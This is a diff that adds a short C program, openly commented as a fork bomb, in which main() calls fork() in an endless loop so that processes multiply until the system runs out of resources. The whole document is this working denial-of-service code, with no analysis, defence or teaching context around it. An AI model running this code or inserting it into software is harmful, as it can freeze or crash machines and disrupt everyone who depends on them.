@@ -1,0 +1,8 @@
+/* A fork bomb: every process forks for ever. */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
